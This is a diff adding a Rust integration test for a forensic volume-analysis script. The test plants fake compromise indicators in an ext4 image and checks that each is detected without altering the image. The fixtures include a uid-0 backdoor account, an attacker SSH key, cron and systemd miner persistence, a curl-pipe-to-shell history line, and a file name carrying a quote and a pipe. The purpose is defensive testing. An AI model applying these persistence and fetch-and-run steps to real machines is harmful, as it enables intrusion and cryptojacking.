@@ -1,0 +1,195 @@
+//! `infra/host/analyse-volume.sh`, run for real on an ext4 image this test
+//! builds without root (`mkfs.ext4 -d`), with planted persistence and
+//! crypto-mining indicators, used as the evidence "device": every indicator is
+//! found at its path inside the file system, the timeline lists the files, and
+//! the image's SHA-256 is the same before and after.
+
+use std::collections::BTreeSet;
+use std::path::Path;
+use std::process::Command;
+
+use playbook::case::custody::sha256_hex;
+use serde_json::Value;
+use system_tests::repo_root;
+
+fn plant(root: &Path, path: &str, text: &str, mode: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    let file = root.join(path);
+    std::fs::create_dir_all(file.parent().expect("a parent")).expect("dirs");
+    std::fs::write(&file, text).expect("planted");
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).expect("mode");
+}
+
+#[test]
+fn analysis_finds_planted_persistence_and_miner_indicators_and_changes_nothing() {
+    let work = std::env::temp_dir().join(format!("ec2-forensics-analysis-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&work);
+    let tree = work.join("tree");
+    plant(&tree, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nbackdoor:x:0:0::/root:/bin/sh\nminer:x:1001:1001::/home/miner:/bin/bash\n", 0o644);
+    plant(
+        &tree,
+        "home/miner/.ssh/authorized_keys",
+        "# added\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n",
+        0o600,
+    );
+    plant(
+        &tree,
+        "etc/cron.d/update",
+        "SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json\n",
+        0o644,
+    );
+    plant(
+        &tree,
+        "etc/systemd/system/kworkerd.service",
+        "[Unit]\nDescription=kernel worker\n[Service]\nExecStart=/usr/local/bin/kworkerd --quiet\n",
+        0o644,
+    );
+    plant(
+        &tree,
+        "home/miner/.bash_history",
+        "curl -s http://203.0.113.9/x.sh | sh\n./xmrig -o stratum+tcp://pool.minexmr.com:4444\n",
+        0o600,
+    );
+    plant(&tree, "tmp/.x/config.json", "{\"pools\":[{\"url\":\"stratum+tcp://xmr.supportxmr.com:3333\",\"user\":\"44wallet\"}],\"donate-level\":1}\n", 0o644);
+    plant(
+        &tree,
+        "usr/local/bin/kworkerd",
+        "\u{7f}ELF XMRig/6.21 xmrig randomx\n",
+        0o755,
+    );
+    // A name an attacker chose, with a quote and a pipe: data, never shell text.
+    plant(
+        &tree,
+        "tmp/.x/a\"b|c.json",
+        "{\"pools\":[{\"url\":\"stratum+ssl://x.example:443\",\"coin\":\"monero\"}]}\n",
+        0o644,
+    );
+    plant(&tree, "var/log/syslog", "nothing to see\n", 0o644);
+
+    let image = work.join("volume.img");
+    let made = Command::new("mkfs.ext4")
+        .args(["-q", "-F", "-d"])
+        .arg(&tree)
+        .arg(&image)
+        .arg("16M")
+        .output()
+        .expect("mkfs.ext4 runs (make setup installs e2fsprogs)");
+    assert!(
+        made.status.success(),
+        "{}",
+        String::from_utf8_lossy(&made.stderr)
+    );
+    let before = sha256_hex(&std::fs::read(&image).expect("image"));
+
+    let out = work.join("out");
+    let run = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
+        .args(["--device"])
+        .arg(&image)
+        .args(["--volume-id", "vol-0123456789abcdef0", "--out"])
+        .arg(&out)
+        .output()
+        .expect("analyse-volume.sh runs");
+    assert!(
+        run.status.success(),
+        "exit {:?}: {}",
+        run.status.code(),
+        String::from_utf8_lossy(&run.stderr)
+    );
+    assert_eq!(
+        sha256_hex(&std::fs::read(&image).expect("image")),
+        before,
+        "the evidence is unchanged"
+    );
+
+    let findings: Value =
+        serde_json::from_slice(&std::fs::read(out.join("findings.json")).expect("findings.json"))
+            .expect("findings.json is JSON");
+    assert_eq!(findings["volumeId"], "vol-0123456789abcdef0");
+    assert_eq!(findings["deviceSha256Before"], before.as_str());
+    assert_eq!(findings["deviceSha256After"], before.as_str());
+    assert_eq!(findings["unchanged"], true);
+    let found: BTreeSet<(String, String)> = findings["indicators"]
+        .as_array()
+        .expect("indicators")
+        .iter()
+        .map(|i| {
+            (
+                i["kind"].as_str().unwrap().to_owned(),
+                i["path"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    for (kind, path) in [
+        ("user", "/etc/passwd"),
+        ("authorized_keys", "/home/miner/.ssh/authorized_keys"),
+        ("cron", "/etc/cron.d/update"),
+        ("systemd", "/etc/systemd/system/kworkerd.service"),
+        ("shell-history", "/home/miner/.bash_history"),
+        ("crypto-mining", "/home/miner/.bash_history"),
+        ("crypto-mining", "/tmp/.x/config.json"),
+        ("crypto-mining", "/tmp/.x/a\"b|c.json"),
+        ("crypto-mining", "/usr/local/bin/kworkerd"),
+        ("recent-executable", "/usr/local/bin/kworkerd"),
+    ] {
+        assert!(
+            found.contains(&(kind.to_owned(), path.to_owned())),
+            "{kind} at {path}: {found:#?}"
+        );
+    }
+    assert!(
+        !found.iter().any(|(_, p)| p == "/var/log/syslog"),
+        "no indicator in a plain log"
+    );
+    let details: Vec<&str> = findings["indicators"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|i| i["detail"].as_str())
+        .collect();
+    assert!(details.contains(&"backdoor has uid 0"), "{details:#?}");
+    assert!(
+        details.iter().any(|d| d.starts_with("miner uid 1001")),
+        "{details:#?}"
+    );
+    assert!(details.contains(&"*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json"));
+    assert!(details.contains(&"ExecStart=/usr/local/bin/kworkerd --quiet"));
+    assert!(
+        details.contains(&"YARA XmrigMiner")
+            && details.contains(&"YARA StratumPoolUrl")
+            && details.contains(&"YARA MinerConfiguration")
+    );
+
+    // Every extracted file is the file system's bytes, with its hash.
+    for file in findings["files"].as_array().expect("files") {
+        let bytes = std::fs::read(out.join(file["file"].as_str().unwrap())).expect("extracted");
+        assert_eq!(sha256_hex(&bytes), file["sha256"].as_str().unwrap());
+        let planted =
+            std::fs::read(tree.join(file["path"].as_str().unwrap().trim_start_matches('/')))
+                .expect("planted");
+        assert_eq!(bytes, planted, "{}", file["path"]);
+    }
+
+    let timeline = std::fs::read_to_string(out.join("timeline.csv")).expect("timeline.csv");
+    assert!(timeline.starts_with("Date,Size,Type,Mode,UID,GID,Meta,File Name\n"));
+    for path in [
+        "/etc/cron.d/update",
+        "/usr/local/bin/kworkerd",
+        "/var/log/syslog",
+    ] {
+        assert!(
+            timeline.contains(&format!("\"{path}\"")),
+            "{path} in the timeline"
+        );
+    }
+
+    // A second run into the same directory is refused rather than mixed.
+    let again = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
+        .args(["--device"])
+        .arg(&image)
+        .args(["--volume-id", "vol-0123456789abcdef0", "--out"])
+        .arg(&out)
+        .output()
+        .expect("runs");
+    assert_eq!(again.status.code(), Some(2));
+    let _ = std::fs::remove_dir_all(&work);
+}
